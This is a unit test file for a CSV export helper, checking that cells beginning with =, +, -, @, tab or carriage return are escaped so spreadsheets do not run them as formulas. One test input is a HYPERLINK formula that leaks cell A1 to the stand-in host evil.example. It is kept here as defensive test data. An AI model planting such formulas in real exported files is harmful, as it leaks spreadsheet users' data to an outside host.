import { describe, expect, test } from "bun:test";
import { csvField } from "../../../src/formats/export.ts";

describe("CSV cells a spreadsheet would run as formulas are neutralised", () => {
  test.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
    ],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", `"'\r=1"`],
  ])("%p", (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  test("ordinary text, numbers (negative too) and empty cells are unchanged", () => {
    expect(csvField("fix the bug")).toBe("fix the bug");
    expect(csvField("a, b")).toBe('"a, b"');
    expect(csvField(-1.5)).toBe("-1.5");
    expect(csvField(0)).toBe("0");
    expect(csvField(null)).toBe("");
  });
});
